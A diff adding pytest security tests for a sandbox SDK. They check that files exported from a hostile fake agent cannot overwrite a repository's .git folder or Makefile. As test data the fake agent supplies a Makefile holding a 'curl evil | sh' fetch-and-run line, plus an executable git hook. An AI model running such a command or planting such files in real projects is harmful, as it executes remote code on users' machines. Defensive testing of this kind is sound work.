@@ -5,11 +5,14 @@ Every refusal comes before a guest boots or a task is looked up, so no guest is 
 
 from __future__ import annotations
 
+import contextlib
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
-from pyro.errors import NotFoundError, OutsideRootError
+from pyro.confine import ARTIFACTS_FOLDER
+from pyro.errors import NotFoundError, OutsideRootError, UsageError
 from pyro.sdk import Pyro
 
 pytestmark = pytest.mark.hostile
@@ -140,6 +143,7 @@ def test_task_host_paths(root: Path) -> None:
         sdk.export_task_path("task-none", "/workspace", "away/copy")
     with pytest.raises(NotFoundError):  # inside the root: on to the (missing) task
         sdk.export_task_path("task-none", "/workspace", "copy")
+    assert not (root / ARTIFACTS_FOLDER).exists()  # no task: no export folder either
 
 
 def test_a_confined_view_shares_the_warm_pool(root: Path) -> None:
@@ -157,3 +161,60 @@ def _data(text: str) -> dict[str, object]:
     from pyro.spec.load import load_spec_text
 
     return load_spec_text(text)[0].spec.model_dump(mode="json", by_alias=True, exclude_unset=True)
+
+
+class _OneTask:
+    """Task sessions that hand out one (lying) agent: only the VM is faked."""
+
+    def __init__(self, agent: object) -> None:
+        self.agent = agent
+
+    @contextlib.contextmanager
+    def session(self, task_id: str) -> Iterator[object]:
+        yield self.agent
+
+
+def test_a_confined_export_lands_in_a_fresh_folder_never_over_the_roots_files(
+    root: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # The old code wrote anywhere inside the root: over .git (an executable hook and a
+    # config with core.fsmonitor), or an Environment spec + kernel fragment that the root
+    # then accepted for a host build.
+    from helpers.lying_agent import LyingAgent, raw_entry
+
+    from pyro.sdk_task import TaskMethods
+
+    (root / ".git").mkdir()
+    (root / ".git" / "config").write_text("[core]\n")
+    (root / "Makefile").write_text("mine\n")
+    agent = LyingAgent()
+    agent.folder("/workspace/git", raw_entry(b"config"), raw_entry(b"hooks", "d"))
+    agent.folder("/workspace/git/hooks", raw_entry(b"pre-commit", mode=0o755))
+    agent.folder("/workspace/env", raw_entry(b"env.yaml"), raw_entry(b"frag.config"))
+    agent.contents["/workspace/env/env.yaml"] = ENVIRONMENT_DOC.replace(
+        "FRAGMENT", "frag.config"
+    ).encode()
+    agent.contents["/workspace/Makefile"] = b"all:\n\tcurl evil | sh\n"
+    monkeypatch.setattr(TaskMethods, "tasks", property(lambda self: _OneTask(agent)))
+    sdk = Pyro(confine_to=root)
+
+    with pytest.raises(UsageError, match=r"in a \.git folder"):
+        sdk.export_task_path("t1", "/workspace/git", ".git")
+    with pytest.raises(UsageError, match="include_git is refused for a confined Pyro"):
+        sdk.export_task_path("t1", "/workspace/git", "copy", include_git=True)
+    envs = sdk.export_task_path("t1", "/workspace/env", "envs")
+    makefile = sdk.export_task_path("t1", "/workspace/Makefile", "Makefile")
+
+    assert (root / ".git" / "config").read_text() == "[core]\n"
+    assert sorted(p.name for p in (root / ".git").iterdir()) == ["config"]
+    assert (root / "Makefile").read_text() == "mine\n" and not (root / "envs").exists()
+    exported = Path(envs.dest)
+    assert exported.parent.parent == root / ARTIFACTS_FOLDER
+    assert exported.name == "envs" and exported.parent.name.startswith("export-t1-")
+    assert (exported / "env.yaml").is_file()
+    assert Path(makefile.dest).read_bytes() == b"all:\n\tcurl evil | sh\n"
+    assert Path(makefile.dest).parent.parent == root / ARTIFACTS_FOLDER
+    with pytest.raises(OutsideRootError, match=ARTIFACTS_FOLDER):
+        sdk.root.environment(str(exported / "env.yaml"))  # type: ignore[union-attr]
+    # The refused exports left no folder behind.
+    assert len(list((root / ARTIFACTS_FOLDER).glob("export-*"))) == 2
